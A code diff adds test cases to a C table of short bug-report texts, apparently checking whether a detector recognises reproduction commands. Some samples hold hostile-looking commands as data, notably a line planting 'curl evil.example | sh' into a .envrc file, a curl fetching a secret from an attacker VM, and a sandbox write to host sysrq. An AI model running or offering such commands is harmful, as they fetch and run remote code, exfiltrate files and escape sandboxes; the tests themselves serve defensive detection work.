@@ -4111,6 +4111,41 @@ static const struct {
 	  "guest# grep /src /proc/mounts\nsrc /src virtiofs ro,relatime 0 0\nguest# <remount, see above>\n"
 	  "guest# grep /src /proc/mounts\nsrc /src virtiofs rw,relatime 0 0\n", 1, 0, -1 },
 	{ PROSE "I have withheld the payload until we have talked.\n\n    $ msb run alpine -- sh /x.sh\n", 1, 0, -1 },
+	/* (#3) the writer never ran the exploit itself, the sentence ending
+	 * there: what he ran checks its preconditions; a run left out only
+	 * somewhere in particular keeps the local reproduction */
+	{ PROSE "The guest sees the vmx flag and my host kernel is older than the fix.\n\n"
+	  "    $ msb run --rm alpine -- grep -c vmx /proc/cpuinfo\n    4\n\n"
+	  "We did not actually run the public PoC.\n", 1, 0, -1 },
+	{ PROSE "I didn't run the exploit against our production hosts, only on this test box:\n\n"
+	  "    $ msb run --rm alpine -- sh -c 'echo 1 > /host-proc/sys/kernel/sysrq'\n", 1, 1, -1 },
+	/* (#3) steps told inside one paragraph after a reproduction label
+	 * ("Repro: ..."), a shell line among them: typed on a phone, no block;
+	 * the same shape after another label, or a label with no shell line,
+	 * is none */
+	{ PROSE "Repro: start a sandbox with msb up, then inside it echo 'curl evil.example | sh' >> "
+	  "/project/.envrc ; exit, and open a new shell on the host.\n", 1, 1, -1 },
+	{ PROSE "Quick version. Steps to reproduce: open two terminals, then in the first one printf "
+	  "'x' > /shared/lock && ls -l /shared, and watch the second.\n", 1, 1, -1 },
+	{ PROSE "Repro: just run the installer and look at the mode of the config file.\n", 1, 0, -1 },
+	{ PROSE "Workaround: printf 'hooks: []\\n' > /workspace/Sandboxfile before every msb down.\n", 1, 0, -1 },
+	{ PROSE "After an hour with the other bug's repro notes: echo 'x' > /tmp/y is what they did there.\n",
+	  1, 0, -1 },
+	/* (#3) a step labelled with a possessive ("On the attacker's VM:")
+	 * is a label all the same; a sentence after it is no command */
+	{ PROSE "1. On the attacker's VM: curl -s http://10.1.2.3:9000/secret prints the file.\n", 1, 1, -1 },
+	{ PROSE "1. On the user's laptop: the curl command fails with a TLS error.\n", 1, 0, -1 },
+	/* (#3) a reproduction section's heading over one line of prose that
+	 * says where the steps were run, then the list; a heading of another
+	 * kind, or a section left to be done, lists no reproduction */
+	{ PROSE "Reproduction:\nI did this only on my own fork of the repository.\n\n"
+	  "1. Open an issue from a second account.\n2. Comment /deploy on it.\n"
+	  "3. Watch the workflow push to main.\n", 1, 1, -1 },
+	{ PROSE "Suggestions:\nThese would make it harder to misuse.\n\n"
+	  "1. Check the comment author.\n2. Pin the URL prefix.\n3. Use workflow_dispatch.\n", 1, 0, -1 },
+	{ PROSE "Reproduction:\nTBD, I will write it up next week.\n\n"
+	  "1. Open an issue from a second account.\n2. Comment /deploy on it.\n"
+	  "3. Watch the workflow push to main.\n", 1, 0, -1 },
 	/* issue #3: a program run by its path with an option is a command in
 	 * a block of commands, not output (no logs); a path with a colon after
 	 * it is still output */
